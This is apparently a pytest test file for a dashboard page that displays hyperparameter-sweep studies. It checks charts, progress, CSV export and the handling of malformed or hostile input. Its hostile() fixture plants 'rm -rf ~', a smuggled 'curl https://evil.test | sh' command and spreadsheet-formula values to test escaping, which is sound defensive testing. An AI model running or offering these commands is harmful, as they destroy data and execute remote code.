"""The page Sweep over studies in the contract's JSON: what it shows, what it refuses, what strangers' texts become."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import subprocess
import sys
import time
import tracemalloc

import pytest
from dashboard_store import HOSTILE, uri_of, write_run
from sweeps_store import (
    DROP,
    ERROR,
    GATED,
    LR,
    SCALING,
    STEPS,
    STRENGTH,
    WIDTH,
    minimised,
    mixed,
    summary,
    trial,
    two_objectives,
    write_children,
    write_content,
    write_study,
)

from dashboard import sweep_charts, sweep_history, sweep_parallel, sweep_tables
from dashboard.names import LONGEST
from dashboard.pages.sweep import core_time, curves_caption
from dashboard.runs import open_store, read_store
from dashboard.sweep_names import short_names
from dashboard.sweep_space import Parameter, read_parameter, round_numbers, value_of
from dashboard.sweep_study import MOST_PARAMETERS, MOST_TRIALS, Unreadable, read_study


@pytest.fixture
def client(bare_db):
    return open_store(uri_of(bare_db))


@pytest.fixture
def write(client, tmp_path):
    """Return a function: write a study into the store."""
    experiment = client.create_experiment("sweeps", artifact_location=(tmp_path / "artifacts").as_uri())

    def written(content, **settings):
        return write_study(client, experiment, content, **settings)

    return written


@pytest.fixture
def open_sweep(open_page, bare_db):
    """Return a function: open the page Sweep on the store."""
    return lambda **parameters: open_page(uri_of(bare_db), "sweep", **parameters)


def written(page):
    """Return the Markdown of the page."""
    kinds = (page.markdown, page.caption, page.warning, page.info, page.error, page.subheader)
    return "\n".join(each.value for kind in kinds for each in kind)


def said(page):
    """Return the Markdown of the page without the signs that make plain text of the next."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", written(page))


def facts(page):
    html = "".join(each.proto.body for each in page.get("html"))
    return dict(re.findall(r"<dt>(.*?)</dt><dd>(.*?)</dd>", html))


def charts(page):
    """Return the descriptions of the charts."""
    return [json.loads(each.proto.spec)["description"] for each in page.get("vega_lite_chart")]


def table(page, column):
    return next(each.value for each in page.dataframe if column in each.value)


def heads(page):
    return [each.value for each in page.subheader]


def progress(page):
    return [each.proto for each in page.get("progress")]


# What a study shows


def test_a_running_study_shows_its_head_and_how_far_it_is(open_sweep, write):
    write(mixed(), status="RUNNING")
    page = open_sweep()
    assert facts(page) | {"Began": ""} == {
        "Maximised": "val/top1", "Experiment": "weizmann.yaml", "Sampler": "tpe", "Pruner": "median", "Seed": "0",
        "Folds": "0, 1", "Seeds of a trial": "0", "Core-time": "1.3 core-hours", "Began": "",
    }  # fmt: skip
    (bar,) = progress(page)
    assert bar.value == 100 * 40 // 60
    assert bar.text == "40 of 60 trials: 31 complete, 6 pruned, 3 failed, 1 running, 1 waiting, 1 retried"
    assert heads(page) == [
        "Best trial: 5", "Importances", "History", "Parallel coordinates", "Values over validations", "All trials",
        "Errors",
    ]  # fmt: skip
    assert page.code[1].value == "skip-sideways fit --config runs/sweeps/weizmann-wiring/best.yaml"
    assert page.code[2].value == ERROR
    assert "Shares of 100 % by PED-ANOVA" in said(page)
    assert "differ from those in all 20 complete trials" in said(page)  # the file's own number, not the 31
    assert "Chosen on folds `0, 1`, seed `0` as the best of 31 complete trials, so no result" in said(page)
    assert "share this value" not in said(page)
    assert "Trials 7, 26, 31:" in said(page)
    assert not page.selectbox[1:]  # one objective: no choice of it


def test_the_table_of_all_trials_is_best_first_and_holds_states_errors_and_run_ids(open_sweep, write):
    content = mixed()
    write(content, status="RUNNING")
    shown = table(open_sweep(), "state")
    values = shown["v0"].dropna().tolist()
    assert values == sorted(values, reverse=True)
    assert len(shown) == len(content["trials"])
    by_number = shown.set_index("number")
    assert by_number.loc[7, "note"] == ERROR
    assert by_number.loc[18, "note"] == "after validation 3 of fold 0 (update 120)"
    assert by_number.loc[18, "reported"] == content["trials"][18]["steps"][-1][1]
    assert by_number.loc[41, "note"] == "trial 40 again"
    assert by_number.loc[5, "run_ids"] == f"{5:032x}"
    assert by_number.loc[5, "started"] == "2026-11-20 10:05:00"
    assert shown["p0"].dtype.kind == "f"  # sorts by size
    assert set(shown["p4"].dropna()) == {"true", "false"}


def test_the_history_has_the_best_so_far_the_right_way_up(open_sweep, write):
    study = read_study(mixed())
    best = sweep_history.best_so_far(study, 0)["value"].tolist()
    assert best == sorted(best)
    assert best[-1] == max(one.values[0] for one in study.complete())
    less = sweep_history.best_so_far(read_study(minimised()), 0)
    assert less["value"].tolist() == sorted(less["value"], reverse=True)
    assert less["number"].iloc[-1] == 24  # the line goes on to the last trial
    table = sweep_history.table(study, 0).set_index("number")
    assert table.loc[18, "what"] == "pruned"
    assert table.loc[18, "value"] == study.trials[18].steps[-1][1]
    assert table.loc[18, "said"].endswith("at validation 3")
    assert math.isnan(table.loc[7, "value"])
    assert set(table["what"]) == {"complete", "pruned", "failed", "running", "retried"}
    looks = [sweep_history.LOOKS[state] for state in set(table["what"])]
    assert len({marker for _, marker in looks}) == len({colour for colour, _ in looks}) == 5
    write(mixed(), status="RUNNING")
    (spoken,) = [text for text in charts(open_sweep()) if "best so far" in text]
    assert spoken.startswith("val/top1 (more is better) of each trial")
    assert "the best, 5, 0.9102" in spoken


def test_of_equal_trials_the_best_is_the_studys_own_and_one_validation_makes_no_curve(open_sweep, write):
    content = summary("equal", [trial(n, steps=[[0, 0.5]]) for n in range(3)])
    content["best"] |= {"trial": 2}
    write(content)
    page = open_sweep()
    assert table(page, "state")["number"].tolist() == [2, 0, 1]
    assert "the best, trial 2, is bold" in said(page)
    assert "3 trials share this value." in said(page)
    assert "Values over validations" not in heads(page)


def test_a_loss_that_spans_decades_opens_logarithmic_and_the_address_keeps_the_choice(open_sweep, write):
    write(minimised(), status="KILLED")
    page = open_sweep()
    assert page.query_params["log"] in ("on", ["on"])
    spec = page.get("vega_lite_chart")[0].proto.spec
    assert '"type": "log"' in spec
    page.toggle[0].set_value(False).run()
    assert not page.exception
    assert page.query_params["log"] in ("off", ["off"])
    assert '"type": "log"' not in page.get("vega_lite_chart")[0].proto.spec
    assert "was stopped before its end" in said(page)
    assert page.code[0].value == "skip-sideways sweep --config weizmann.yaml --space s.yaml --trials 25 --study loss"
    assert f"Best trial: {minimised()['best']['trial']}" in heads(page)
    assert not progress(page)


def test_a_score_with_one_bad_trial_opens_on_even_steps(open_sweep, write):
    write(summary("score", [trial(0, values=[0.02]), trial(1, values=[0.9])]))
    page = open_sweep()
    assert page.query_params["log"] in ("off", ["off"])
    assert '"type": "log"' not in page.get("vega_lite_chart")[0].proto.spec
    page.toggle[0].set_value(True).run()
    assert '"type": "log"' in page.get("vega_lite_chart")[0].proto.spec


def test_the_scale_is_chosen_by_complete_trials_and_never_logarithmic_of_what_is_not_positive():
    less = [{"metric": "val/loss", "direction": "minimize"}]
    trials = [trial(0, values=[1.0]), trial(1, values=[2.0])]
    far = trial(2, state="pruned", values=None, steps=[[0, 900.0]])
    assert not sweep_history.spans_decades(read_study(summary("s", [*trials, far], objectives=less)), 0)
    trials.append(trial(3, values=[100.0]))
    assert sweep_history.spans_decades(read_study(summary("s", [*trials, far], objectives=less)), 0)
    negative = trial(2, state="pruned", values=None, steps=[[0, -1.0]])
    assert not sweep_history.spans_decades(read_study(summary("s", [*trials, negative], objectives=less)), 0)


@pytest.mark.parametrize("log", [False, True])
def test_trials_without_a_value_stand_outside_the_range_of_values(log):
    failed = trial(2, state="failed", values=None, error="x")
    less = [{"metric": "val/loss", "direction": "minimize"}]
    content = summary("s", [trial(0, values=[1.0]), trial(1, values=[50.0]), failed], objectives=less)
    spec = sweep_history.chart(read_study(content), 0, log=log).to_dict()
    y = next(layer["encoding"]["y"] for layer in spec["layer"] if "scale" in layer["encoding"].get("y", {}))
    assert y["scale"]["range"] == [{"expr": "height - 34"}, 0]  # the values end above the strip
    (strip,) = [layer for layer in spec["layer"] if layer["encoding"].get("y") == {"value": {"expr": "height - 17"}}
                and layer["mark"]["type"] == "point"]  # fmt: skip
    assert [row["number"] for row in spec["datasets"][strip["data"]["name"]]] == [2]
    all_have = summary("s", content["trials"][:2], objectives=less)
    spec = json.dumps(sweep_history.chart(read_study(all_have), 0, log=log).to_dict())
    assert sweep_history.NO_VALUE not in spec
    assert "height - 34" not in spec


def test_reasons_stand_where_there_are_no_importances(open_sweep, write):
    write(minimised())
    page = open_sweep()
    assert "2 complete trials; importances need at least 4" in said(page)
    assert not [text for text in charts(page) if text.startswith("Importances")]


def test_two_objectives_have_a_front_and_a_choice(open_sweep, write):
    content = two_objectives()
    write(content)
    page = open_sweep()
    assert facts(page)["Maximised"] == "val/top1"
    assert facts(page)["Minimised"] == "latency/tick_ms"
    front = table(page, "v1")
    assert front["number"].tolist() == content["front"]
    assert front["v1"].tolist() == sorted(front["v1"], reverse=True)  # a worse latency for every better accuracy
    spoken = charts(page)[0]
    assert all(f"trial {number}: " in spoken for number in content["front"])
    points = sweep_charts.front_table(read_study(content), 1, 0)
    assert points["edge"].equals(points["front"])
    assert any("Importances for val/top1" in text for text in charts(page))
    page.selectbox[1].set_value("latency/tick_ms").run()
    assert not page.exception
    assert page.query_params["objective"] in ("latency/tick_ms", ["latency/tick_ms"])
    assert "latency/tick_ms is 1 in every trial" in said(page)
    fastest = min(content["trials"], key=lambda each: each["values"][1])["number"]
    assert table(page, "state")["number"].iloc[0] == fastest
    assert page.code[0].value == "skip-sideways fit --config runs/sweeps/accuracy-latency/best.yaml"


def test_of_three_objectives_two_are_chosen(open_sweep, write):
    objectives = [{"metric": name, "direction": "minimize"} for name in ("a", "b", "c")]
    trials = [trial(n, values=[float(n), 10.0 - n, float(n % 3)]) for n in range(8)]
    write(summary("three", trials, objectives=objectives))
    page = open_sweep()
    across, upright = (next(box for box in page.selectbox if box.key == key) for key in ("across", "upright"))
    assert (across.value, upright.value) == ("b", "a")
    across.set_value("c").run()
    assert not page.exception
    assert "a (minimised)" in charts(page)[0] or "a (less is better) against c" in charts(page)[0]
    assert [f"v{n}" in table(page, "v2") for n in range(3)] == [True] * 3


def test_parallel_coordinates_have_a_place_for_every_kind_of_value():
    study = read_study(mixed())
    shown = sweep_parallel.axes(study, 0, log=False)
    assert [axis.key for axis in shown] == [LR, SCALING, STRENGTH, WIDTH, GATED, DROP, STEPS, "val/top1"]
    lines = sweep_parallel.places(study, 0, shown).set_index(["trial", "axis"])
    without = next(one for one in study.complete() if STRENGTH not in one.params)
    assert lines.loc[(without.number, 2), "x"] == sweep_parallel.ABSENT
    assert lines.loc[(without.number, 2), "at"] == "–"
    for one in study.complete():
        assert lines.loc[(one.number, 0), "x"] == pytest.approx((math.log10(one.params[LR]) + 4) / 3)
        assert lines.loc[(one.number, 4), "x"] == {"true": 0.25, "false": 0.75}[one.params[GATED]]
    assert lines.index.get_level_values("trial")[-1] == study.best.trial  # drawn last: on top
    texts = sweep_parallel.ticks(shown, absent={2})
    assert set(texts.loc[texts["axis"] == 5, "text"]) == {"null", "0.1", "0.2"}
    assert set(texts.loc[texts["axis"] == 6, "text"]) == {"[30, 60]", "[45]", "[]"}
    assert texts.loc[texts["x"] == sweep_parallel.ABSENT, "axis"].tolist() == [2]


@pytest.mark.parametrize(
    ("given", "seen", "ticks"),
    [
        ({"low": 1e-4, "high": 1e-1, "log": True}, [], ["0.0001", "0.001", "0.01", "0.1"]),
        ({"low": 8, "high": 64}, [], ["8", "20", "40", "64"]),
        ({"low": 1, "high": 3}, [2], ["1", "2", "3"]),
        ({"low": 1, "high": 3}, [5], ["1", "2", "3", "4", "5"]),
        (["a", "b"], ["c"], ["a", "b", "c"]),
        ({"choices": [True, None, [1]]}, [], ["true", "null", "[1]"]),
        (None, [0.5, 0.5], ["0.5"]),
        (None, [], []),
        ({"low": -1, "high": 1, "log": True}, [], ["-1", "0", "1"]),
        ({"low": "x", "high": math.inf}, ["<b>"], ["<b>"]),
    ],
)
def test_an_axis_has_readable_ticks(given, seen, ticks):
    assert [text for _, text in read_parameter("p", given, seen).ticks()] == ticks


def test_round_numbers_and_short_names():
    assert round_numbers(2.5, 110, log=True) == [5, 10, 20, 50, 100]
    assert Parameter("p", 1, 100, log=True).position(10) == pytest.approx(0.5)
    assert short_names(["model.init_args.lr", "data.lr", "a"]) == {
        "model.init_args.lr": "init_args.lr", "data.lr": "data.lr", "a": "a",
    }  # fmt: skip
    assert [value_of(each) for each in (True, None, [1], 0.1, math.nan, 10**400)][:5] == [
        "true",
        "null",
        "[1]",
        0.1,
        "NaN",
    ]
    assert [core_time(seconds) for seconds in (5, 90, 7200)] == ["5 core-seconds", "1.5 core-minutes", "2.0 core-hours"]


def test_the_csv_file_has_every_number_in_full_and_no_formula(open_sweep, write):
    trials = [trial(0, params={"=cmd()": 1 / 3, LR: "@x"}), trial(1, state="failed", values=None, error="=1+1")]
    study = read_study(summary("=cmd/../x", trials))
    rows = list(csv.reader(io.StringIO(sweep_tables.csv(study, sweep_tables.ordered(study, 0)))))
    assert str(1 / 3) in rows[1]
    assert "'=cmd()" in rows[0]
    assert LR in rows[0]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@"))]
    assert sweep_tables.file_name(study) == "cmd-x-trials.csv"
    write(mixed())
    assert [button.proto.label for button in open_sweep().get("download_button")] == ["Download csv"]


def test_a_study_that_has_just_begun_says_so(open_sweep, write):
    empty = write(summary("new", [], trials_asked=20), status="RUNNING")
    first = write(summary("one", [trial(0, state="running", values=None)], trials_asked=20), status="RUNNING")
    page = open_sweep(study=empty)
    assert "No trial has begun yet." in said(page)
    assert progress(page)[0].text == "0 of 20 trials"
    page = open_sweep(study=first)
    assert "No trial is complete yet" in said(page)
    assert progress(page)[0].text == "0 of 20 trials: 1 running"
    assert len(charts(page)) == 1


GO_ON = "To go on with it, from the folder it was started in:"
IF_DEAD = "If no worker runs it any more, this goes on with it, from the folder it was started in:"
EARLY = "The study ended before all its trials had run, as with `--limit-hours`."


@pytest.mark.parametrize(
    ("status", "asked", "words"),
    [
        ("RUNNING", 5, {IF_DEAD}),
        ("FINISHED", 3, set()),
        ("FINISHED", 5, {GO_ON, EARLY}),
        ("KILLED", 5, {GO_ON, "The study was stopped before its end."}),
        ("KILLED", 3, {"The study was stopped before its end."}),
    ],
)
def test_the_command_to_go_on_stands_where_trials_are_missing(open_sweep, write, status, asked, words):
    trials = [
        trial(0),
        trial(1),
        trial(2, state="failed", values=None, error="x"),
        trial(3, state="running", values=None),
    ]
    content = summary("s", trials, trials_asked=asked)
    write(content, status=status)
    page = open_sweep()
    every = {GO_ON, IF_DEAD, EARLY, "The study was stopped before its end."}
    assert {each for each in every if each in said(page)} == words
    assert (content["command"] in [block.value for block in page.code]) == bool({GO_ON, IF_DEAD} & words)


def test_curves_of_a_large_study_keep_places_for_trials_that_did_not_complete():
    steps = [[0, 0.1], [1, 0.2]]
    complete = [trial(n, steps=steps, values=[n / 1000]) for n in range(300)]
    pruned = [trial(300 + n, steps=steps, state="pruned", values=None) for n in range(100)]
    running = [trial(10_000, steps=steps, state="running", values=None)]
    study = read_study(summary("s", [*complete, *pruned, *running]))
    shown = sweep_charts.reporting(study)
    assert len(shown) == sweep_charts.MOST_CURVES == 200
    assert [one.number for one in shown[:140]] == list(range(299, 159, -1))
    assert {one.state for one in shown[140:]} == {"running", "pruned"}
    assert max(one.number for one in shown if one.state == "pruned") == 399
    assert "140 of 300 complete, 59 of 100 pruned, 1 of 1 running" in curves_caption(study, shown)
    few = read_study(summary("s", [*complete, *running]))
    assert len(sweep_charts.reporting(few)) == 200
    assert "pruned" not in curves_caption(few, sweep_charts.reporting(few))


def test_a_study_whose_trials_all_failed_shows_the_errors_first(open_sweep, write):
    write(summary("s", [trial(n, state="failed", values=None, error=ERROR) for n in range(3)]))
    page = open_sweep()
    assert heads(page)[:2] == ["Errors", "Best trial"]
    assert heads(page).count("Errors") == 1
    assert "No trial completed." in said(page)


def test_parameters_without_an_axis_are_counted():
    params = {f"p{n:02}": float(n) for n in range(25)}
    trials = [trial(n, params=params, values=[n / 10]) for n in range(5)]
    study = read_study(summary("s", trials, space={key: {"low": 0, "high": 30} for key in params}))
    assert sweep_parallel.left_out(study, 0) == " The first 12 of 25 parameters."
    known = [{"metric": "val/top1", "trials": 5, "values": {"p24": 1.0}}]
    study = read_study(summary("s", trials, space={key: {"low": 0, "high": 30} for key in params}, importances=known))
    assert sweep_parallel.left_out(study, 0) == " The 12 most important of 25 parameters."
    assert "p24" in [axis.key for axis in sweep_parallel.axes(study, 0, log=False)]
    assert sweep_parallel.left_out(read_study(mixed()), 0) == ""


def test_choices_that_trials_had_have_a_place_however_many_there_are():
    given = {"choices": [f"c{n}" for n in range(1_000)]}
    found = read_parameter("p", given, ["c900", "c3"])
    assert len(found.choices) == 200
    assert found.position("c900") is not None
    assert found.position("c3") == pytest.approx(3.5 / 200)


def test_what_was_searched_is_the_spaces_own():
    study = read_study(mixed())
    searched = {key: parameter.searched for key, parameter in study.parameters.items()}
    assert searched[LR] == "0.0001 to 0.1, log"
    assert searched[WIDTH] == "8 to 64, step 8"
    assert searched[STRENGTH] == "0.5 to 4, where lag_scaling is inverse or exponential"
    assert searched[STEPS] == "[30, 60], [45], []"
    assert read_parameter("p", {"low": 0, "high": 1}, [5]).searched == "0 to 1"  # not what a trial outside it had
    assert read_parameter("p", None, [5]).searched == ""


@pytest.mark.parametrize(("lower", "log"), [(True, False), (True, True), (False, False), (False, True)])
def test_the_colours_go_from_the_best_to_the_worst_but_its_tenth(lower, log):
    objectives = [{"metric": "m", "direction": "minimize" if lower else "maximize"}]
    values = [float(n + 1) for n in range(20)]
    content = summary("s", [trial(n, values=[value]) for n, value in enumerate(values)], objectives=objectives)
    layers = sweep_parallel.chart(read_study(content), 0, log=log).to_dict()["layer"]
    scales = [layer["encoding"]["color"]["scale"] for layer in layers if "scale" in layer["encoding"].get("color", {})]
    assert [scale["domain"] for scale in scales] == [[1, 19] if lower else [20, 2]] * len(scales)
    assert {scale["type"] for scale in scales} == {"log" if log else "linear"}


@pytest.mark.parametrize("lower", [True, False])
def test_the_bold_line_and_the_bold_curve_are_the_best_trial(lower):
    objectives = [{"metric": "m", "direction": "minimize" if lower else "maximize"}]
    steps = [[0, 0.5], [1, 0.6]]
    content = summary("s", [trial(n, values=[float(n)], steps=steps) for n in range(4)], objectives=objectives)
    study, best = read_study(content), 0 if lower else 3
    for chart in (sweep_charts.curves(study), sweep_parallel.chart(study, 0, log=False)):
        assert f'"datum.trial == {best}"' in chart.to_json() or f'"datum.number == {best}"' in chart.to_json()


def test_the_front_is_logarithmic_where_less_is_better_and_says_which_way():
    trials = [trial(n, values=[0.02 + n / 4, 10.0**n]) for n in range(4)]
    objectives = [{"metric": "acc", "direction": "maximize"}, {"metric": "ms", "direction": "minimize"}]
    study = read_study(summary("s", trials, objectives=objectives))
    encoding = sweep_charts.front(study, 1, 0, log=(True, False)).to_dict()["layer"][1]["encoding"]
    assert [encoding[name]["title"] for name in "xy"] == ["ms (less is better)", "acc (more is better)"]
    assert [encoding[name]["scale"]["type"] for name in "xy"] == ["log", "linear"]


def test_of_too_many_trials_the_best_and_the_front_are_kept():
    count = MOST_TRIALS + 500
    trials = [trial(n, values=[0.5 if n != count - 3 else 0.9]) for n in range(count)]
    study = read_study(summary("s", []) | {"trials": trials, "front": [count - 1], "best": {
        "trial": count - 3, "values": [0.9], "params": {}, "command": ""}})  # fmt: skip
    assert len(study.trials) == MOST_TRIALS
    assert study.ranked(0)[0].number == count - 3
    assert study.trials[-1].number == count - 1


def test_a_store_with_studies_of_another_version_names_it(open_sweep, write):
    write(mixed(4), schema_version="2")
    assert "no study (a run of tag `kind` = `sweep`) that can be read: 1 that are studies of a newer version" in said(
        open_sweep()
    )


# Which study


def test_studies_of_one_name_are_told_apart_the_newest_first_and_a_link_opens_one(open_sweep, write):
    old = write(summary("same", [trial(0, values=[0.25])]), started_ms=1_790_000_000_000)
    new = write(summary("same", [trial(0, values=[0.75])]))
    write(summary("other", [trial(0)]), started_ms=1_780_000_000_000)
    page = open_sweep()
    titles = page.selectbox[0].options
    assert [title.split(" · ")[0] for title in titles] == ["same", "same", "other"]
    assert new[:8] in titles[0]
    assert old[:8] in titles[1]
    assert len(set(titles)) == 3
    assert "0.75" in said(page)
    assert "0.25" in said(open_sweep(study=old))
    assert "of the address is not in this store" in said(open_sweep(study="f" * 32))


def test_a_store_without_a_study_says_what_to_type(open_sweep, open_page, demo_db, tmp_path):
    command = "skip-sideways sweep --config EXPERIMENT.yaml --space SPACE.yaml --trials 20"
    for uri in (uri_of(demo_db), f"sqlite:///{tmp_path}/none.db"):
        page = open_page(uri, "sweep")
        assert command in [block.value for block in page.code]
    assert "make demo" not in [block.value for block in page.code]


def test_sweeps_and_trials_are_no_rows_of_other_pages_and_no_other_runs(open_page, demo_db, tmp_path):
    client = open_store(uri_of(demo_db))
    before = read_store(client, uri_of(demo_db))
    experiment = client.create_experiment("sweeps", artifact_location=(tmp_path / "artifacts").as_uri())
    content = two_objectives(6)
    write_children(client, experiment, write_study(client, experiment, content), content)
    write_study(client, experiment, content, schema_version="2")
    store = read_store(client, uri_of(demo_db))
    assert len(store.runs) == len(before.runs)
    assert len(store.studies) == 1
    assert store.left_out == {"that are studies of a newer version of the run layout (2; this dashboard reads 1)": 1}
    assert "weizmann" not in said(open_page(uri_of(demo_db), "compare"))


def test_pages_without_a_training_run_name_the_page_sweep(open_page, bare_db, write):
    write(mixed())
    assert "but 1 study: see the page Sweep" in said(open_page(uri_of(bare_db), "compare"))


# What is broken, huge or hostile


BROKEN = [
    (None, "This run has no artifact sweep.json."),
    ("not json {", "is not valid JSON"),
    ("[" * 100_000, "is not valid JSON"),
    ("[1, 2]", "is a JSON list, expected an object"),
    ("{}", "is of schema version None, this dashboard reads 1"),
    ({**minimised(3), "schema_version": 2}, "is of schema version 2, this dashboard reads 1"),
    ({**minimised(3), "schema_version": True}, "is of schema version True"),
    ({**minimised(3), "objectives": []}, "does not name 1 to 6 objectives"),
    ({**minimised(3), "objectives": [{"metric": "a", "direction": "up"}]}, "does not name 1 to 6 objectives"),
    ({**minimised(3), "objectives": [{"metric": "a", "direction": "minimize"}] * 2}, "does not name"),
    ({**minimised(3), "study": "x" * (17 << 20)}, "bytes; at most 16777216 are read"),
]


def test_a_file_that_is_no_study_is_one_plain_sentence(open_sweep, write):
    written = [write(content) for content, _ in BROKEN]
    page = open_sweep()
    for run_id, (_, reason) in zip(written, BROKEN, strict=True):
        page.selectbox[0].set_value(run_id).run()
        assert not page.exception
        (warning,) = page.warning
        assert warning.value.startswith("This study cannot be shown: ")
        assert reason in said(page)
        assert not page.get("vega_lite_chart")


def test_a_running_study_whose_file_is_half_written_is_looked_at_again(open_sweep, write, client, monkeypatch):
    monkeypatch.setattr("dashboard.sweep_reading.FRESH_S", 1e-6)  # every look is a new one
    run_id = write(None, status="RUNNING")
    page = open_sweep()
    assert "before the first trial has ended; the page looks again. This run has no artifact" in said(page)
    write_content(client, run_id, '{"schema_version": 1, "study": "h')
    page.run()
    assert "cannot be shown now; the page looks again. The artifact sweep.json is not valid JSON" in said(page)
    assert not page.warning
    write_content(client, run_id, mixed(4))
    page.run()
    assert "Best trial" in heads(page)[0]


def test_a_study_that_goes_on_after_its_end_is_followed_and_not_drawn_without_end(
    open_sweep, write, client, monkeypatch
):
    import streamlit as st

    monkeypatch.setattr("dashboard.cached.FRESH_S", 0.0)  # every list of runs is a new one
    monkeypatch.setattr("dashboard.sweep_reading.FRESH_S", 1e-6)
    drawn_again = []
    monkeypatch.setattr(st, "rerun", lambda: drawn_again.append(True))
    run_id = write(mixed(8), status="KILLED")
    page = open_sweep()
    assert "8 of 60 trials" in said(page)
    client.update_run(run_id, status="RUNNING")
    assert client.get_run(run_id).info.end_time  # MLflow keeps it
    write_content(client, run_id, mixed(12))
    page.run()
    assert progress(page)[0].text.startswith("12 of 60 trials")
    assert not drawn_again


def test_reload_reads_the_file_of_an_ended_study_again(open_sweep, write, client):
    run_id = write(mixed(8))
    page = open_sweep()
    write_content(client, run_id, mixed(12))
    page.run()
    assert "8 of 60 trials" in said(page)
    next(button for button in page.button if button.label == "Reload").click().run()
    assert "12 of 60 trials" in said(page)


ODD = ("", "x", -1, 1.5, True, None, [], {}, [[]], [None], {"a": []}, 10**400, math.nan, math.inf, "<b>", [["x", 1]])


@pytest.mark.parametrize("key", sorted(mixed(4)))
def test_a_part_of_any_other_kind_breaks_nothing(key):
    for odd in ODD:
        read_or_refused({**mixed(8), key: odd})


@pytest.mark.parametrize("key", sorted(trial(0)))
def test_a_trial_of_any_other_kind_breaks_nothing(key):
    for odd in ODD:
        broken = [{**trial(1), key: odd}, trial(2, values=[0.25], params={LR: 0.02}), odd]
        content = summary("odd", [trial(0)])
        read_or_refused({**content, "trials": broken})


def read_or_refused(content):
    """Read the content and make all that the page shows of it, but the charts' own JSON."""
    try:
        study = read_study(content)
    except Unreadable:
        return
    sweep_history.table(study, 0)
    sweep_history.best_so_far(study, 0)
    sweep_history.spans_decades(study, 0)
    if study.complete():
        shown = sweep_parallel.axes(study, 0, log=False)
        sweep_parallel.places(study, 0, shown)
        sweep_parallel.ticks(shown, absent={0})
    sweep_charts.front_table(study, 0, 0)
    sweep_charts.reporting(study)
    sweep_tables.csv(study, sweep_tables.ordered(study, 0))
    sweep_tables.front(study)
    sweep_tables.errors(study)


def test_entries_that_are_no_trials_and_values_that_are_no_numbers_are_counted(open_sweep, write):
    trials = [trial(0), trial(1, values=[math.nan]), trial(2, values=[0.75]), trial(2), trial(-1), "x", {}]
    write({**summary("odd", [trial(0)]), "trials": trials})
    page = open_sweep()
    text = said(page)
    assert "4 entries of sweep.json are no trials" in text
    assert "1 complete trials have no finite value" in text
    assert table(page, "state")["number"].tolist() == [2, 0, 1]


def test_very_many_trials_are_shown_in_part_within_time_and_memory(open_sweep, write):
    count = 100_000
    small = {"state": "complete", "params": {"a": 1}, "values": [0.5]}
    content = summary("huge", []) | {"trials_asked": count}
    content["trials"] = [small | {"number": number} for number in range(count)]
    tracemalloc.start()
    study = read_study(content)
    kept, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert len(study.trials) == MOST_TRIALS
    assert kept < 8 << 20
    assert sweep_parallel.drawn(study, 0)[-1].number == 0
    write(content)
    began = time.process_time()
    page = open_sweep()
    assert time.process_time() - began < 10
    assert "sweep.json lists 100,000 trials; 2,000 are shown: the best, the front and the first." in said(page)
    assert "The best 300 of 2,000 trials." in said(page)


def test_very_many_parameters_steps_and_choices_are_shown_in_part():
    params = {f"p{number}": f"v{number}" for number in range(5_000)}
    steps = [[step, 0.5] for step in range(10_000)]
    space = {f"p{number}": {"choices": list(range(1_000))} for number in range(5_000)}
    study = read_study(summary("wide", [trial(0, params=params, steps=steps)], space=space))
    assert len(study.parameters) == MOST_PARAMETERS
    assert len(study.trials[0].steps) <= 200
    assert study.trials[0].steps[-1] == (10_000, 0.5)
    assert max(len(parameter.choices) for parameter in study.parameters.values()) <= 200
    assert len(sweep_parallel.axes(study, 0, log=False)) == sweep_parallel.MOST_AXES + 1


def hostile():
    """Return a study of which every text is one of HOSTILE."""
    texts = [*HOSTILE, "image", "title", "$x^2$", "https://evil.test/a.png"]
    params = {**{text: text for text in texts}, LR: 0.01, "image": "https://evil.test/a.png"}
    trials = [
        trial(
            n, params=params, error=text, pruned=text, worker=text, run_ids=[text], started=text, values=[0.5 + 0.1 * n]
        )
        for n, text in enumerate(texts)
    ]
    failed = [{**each, "state": "failed", "number": 100 + n, "values": None} for n, each in enumerate(trials)]
    content = summary(HOSTILE[0], [*trials, *failed], objectives=[{"metric": HOSTILE[1], "direction": "maximize"}])
    content |= dict.fromkeys(("experiment", "sampler", "pruner", "seed", "importances_why_none"), HOSTILE[0])
    content |= {"space": {text: {"choices": texts} for text in texts}, "command": "rm -rf ~", "folds": texts}
    content["best"]["command"] = "skip-sideways fit --config x; curl https://evil.test | sh"
    return content


def test_texts_of_strangers_are_shown_as_text(open_sweep, write):
    write(hostile(), study=HOSTILE[1])
    page = open_sweep()
    # what stands in code spans is text; nothing else may be theirs
    without_code = re.sub(r"(?<!\\)(`+)(?!`).+?(?<!`)\1(?!`)", "", written(page))
    unescaped = re.sub(r"\\[!-/:-@\[-`{-~]", "", without_code)
    for sign in ("<img", "<script", "](http", "**bold**", ":red[c", "$x^2$", "long " * 30):
        assert sign not in unescaped
    assert "<img" not in "".join(each.proto.body for each in page.get("html"))
    shown = table(page, "state")
    texts = [text for column in shown for text in shown[column] if isinstance(text, str)]
    assert max(map(len, texts)) <= 3 * LONGEST + 620  # a note is of a pruned text and an error
    assert all(text.isprintable() for text in texts)
    # in a tooltip `image` would be fetched and `title` be a heading
    titles = [tip["title"] for each in page.get("vega_lite_chart") for tip in tooltips(json.loads(each.proto.spec))]
    assert "image:" in titles
    assert not {"image", "title"} & set(titles)


def tooltips(spec):
    if isinstance(spec, dict):
        for key, value in spec.items():
            yield from value if key == "tooltip" and isinstance(value, list) else tooltips(value)
    elif isinstance(spec, list):
        for value in spec:
            yield from tooltips(value)


def test_only_commands_of_this_program_are_there_to_copy(open_sweep, write):
    write(hostile() | {"trials_asked": 40}, status="KILLED")
    page = open_sweep()
    commands = [block.value for block in page.code if block.language == "bash"]
    assert commands == ["skip-sideways fit --config 'x;' curl https://evil.test '|' sh"]
    assert "none of `skip-sideways sweep`, so it is not shown" in said(page)


def test_a_command_that_cannot_be_read_is_not_shown(open_sweep, write):
    content = minimised(5) | {"trials_asked": 5}
    content["best"]["command"] = "skip-sideways fit --config 'unclosed"
    write(content)
    page = open_sweep()
    assert "none of `skip-sideways fit`, so it is not shown" in said(page)
    assert not page.code


# The page as a whole


def test_two_hundred_trials_are_drawn_soon(open_sweep, write):
    write(mixed(200))
    page = open_sweep()  # what the first page of a server imports
    began = time.process_time()
    page.run()
    assert time.process_time() - began < 3
    assert len(page.get("vega_lite_chart")) == 4
    assert not page.exception


